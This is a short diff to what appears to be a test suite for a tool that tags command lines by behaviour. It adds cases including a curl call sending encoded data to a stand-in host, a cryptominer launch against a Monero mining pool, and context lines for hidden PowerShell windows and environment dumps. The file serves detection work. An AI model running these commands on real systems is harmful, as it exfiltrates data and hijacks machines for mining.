@@ -14,6 +14,10 @@ describe('argument vectors', () => {
   run(['powershell', '-w', 'hidden', '-c', 'Get-Date'], 'hidden-window');
   run(['…', '-m', 'pip', 'install', 'x'], 'package-install runs-python');
   run(['…', '-c', 'import os'], 'runs-python', [['python < python -c', 'import os']]);
+  run(['«sys.executable.replace@3»', '-c', 'print(1)'], 'runs-python', [['python < python -c', 'print(1)']]);
+  run(['curl', 'http://a.invalid/?k=«base64.b64encode@7»'], 'download send-data');
+  run(['./run', '-o', 'xmr.nanopool.org:14444', '-u', 'w'], 'miner');
+  run(['pgrep', 'xmrig'], '');
   run(['whoami'], 'host-identity');
   run(['env'], 'environment-dump');
   run(['env', 'A=1', 'make'], '');
